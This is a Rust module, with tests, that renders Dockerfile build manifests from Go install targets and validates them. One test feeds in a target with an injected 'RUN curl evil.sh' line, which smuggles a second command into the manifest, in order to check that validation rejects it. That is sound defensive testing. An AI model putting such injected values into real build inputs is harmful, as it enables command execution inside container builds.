//! Build manifest rendering.
//!
//! The manifest is a pure function of the install targets: with none it is a
//! single copy-only stage, otherwise a builder stage installs each target and
//! the runtime stage copies the installed binaries next to the staged files.

use kiln_core::error::{KilnError, Result};

use super::dockerfile::Dockerfile;

/// File name the toolchain discovers in the build context.
pub const MANIFEST_FILENAME: &str = "Dockerfile";

/// Image used by the builder stage.
pub const BUILD_BASE_IMAGE: &str = "golang:1.21-bookworm";

/// Minimal image the final stage starts from.
pub const RUNTIME_BASE_IMAGE: &str = "gcr.io/distroless/base-debian12";

/// Directory inside the image holding staged files and installed tools.
pub const APP_DIR: &str = "/kiln/";

/// Where the builder stage leaves installed binaries.
pub const INSTALL_OUTPUT_DIR: &str = "/go/bin/";

/// Entrypoint of every built image.
pub const ENTRYPOINT_PATH: &str = "/kiln/kiln-kube";

const BUILDER_STAGE: &str = "builder";

/// Render the build manifest for `install_targets`.
pub fn render_manifest(install_targets: &[String]) -> String {
    let mut out = String::new();

    if !install_targets.is_empty() {
        out.push_str(&format!("FROM {} AS {}\n", BUILD_BASE_IMAGE, BUILDER_STAGE));
        for target in install_targets {
            out.push_str(&format!("RUN go install {}\n", target));
        }
        out.push('\n');
    }

    out.push_str(&format!("FROM {}\n", RUNTIME_BASE_IMAGE));
    out.push_str(&format!("WORKDIR {}\n", APP_DIR));
    out.push_str("COPY . .\n");
    if !install_targets.is_empty() {
        out.push_str(&format!(
            "COPY --from={} {} {}\n",
            BUILDER_STAGE, INSTALL_OUTPUT_DIR, APP_DIR
        ));
    }
    out.push_str(&format!("ENTRYPOINT [\"{}\"]\n", ENTRYPOINT_PATH));

    out
}

/// Render the manifest and check that it parses back with one install step
/// per target.
pub fn render_validated(install_targets: &[String]) -> Result<String> {
    let content = render_manifest(install_targets);
    let parsed = Dockerfile::parse(&content)?;

    let installs = parsed.run_commands().len();
    if installs != install_targets.len() {
        return Err(KilnError::ManifestWrite(format!(
            "rendered manifest has {} install steps for {} targets",
            installs,
            install_targets.len()
        )));
    }

    Ok(content)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn targets(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn test_render_empty_is_single_stage() {
        let content = render_manifest(&[]);
        let df = Dockerfile::parse(&content).unwrap();
        assert_eq!(df.stage_count(), 1);
        assert!(df.run_commands().is_empty());
        assert!(!content.contains("--from"));
        assert!(!content.contains(BUILD_BASE_IMAGE));
        assert_eq!(df.entrypoint(), Some(&[ENTRYPOINT_PATH.to_string()][..]));
    }

    #[test]
    fn test_render_empty_exact_text() {
        assert_eq!(
            render_manifest(&[]),
            "FROM gcr.io/distroless/base-debian12\n\
             WORKDIR /kiln/\n\
             COPY . .\n\
             ENTRYPOINT [\"/kiln/kiln-kube\"]\n"
        );
    }

    #[test]
    fn test_render_targets_one_step_each_in_order() {
        let t = targets(&["example.com/a@latest", "example.com/b@v1", "example.com/a@latest"]);
        let df = Dockerfile::parse(&render_manifest(&t)).unwrap();
        assert_eq!(df.stage_count(), 2);
        assert_eq!(
            df.run_commands(),
            vec![
                "go install example.com/a@latest",
                "go install example.com/b@v1",
                "go install example.com/a@latest",
            ]
        );
        assert_eq!(df.entrypoint(), Some(&[ENTRYPOINT_PATH.to_string()][..]));
    }

    #[test]
    fn test_render_targets_copies_install_output() {
        let content = render_manifest(&targets(&["example.com/tool@latest"]));
        assert!(content.starts_with("FROM golang:1.21-bookworm AS builder\n"));
        assert!(content.contains("COPY --from=builder /go/bin/ /kiln/\n"));
    }

    #[test]
    fn test_render_is_deterministic() {
        let t = targets(&["example.com/a@latest", "example.com/b@latest"]);
        assert_eq!(render_manifest(&t).as_bytes(), render_manifest(&t).as_bytes());
        assert_eq!(render_manifest(&[]), render_manifest(&[]));
    }

    #[test]
    fn test_render_validated_accepts_both_forms() {
        assert!(render_validated(&[]).is_ok());
        assert!(render_validated(&targets(&["example.com/tool@latest"])).is_ok());
    }

    #[test]
    fn test_render_validated_rejects_injected_lines() {
        let t = targets(&["example.com/tool@latest\nRUN curl evil.sh"]);
        let err = render_validated(&t).unwrap_err();
        assert!(matches!(err, KilnError::ManifestWrite(_)));
    }
}
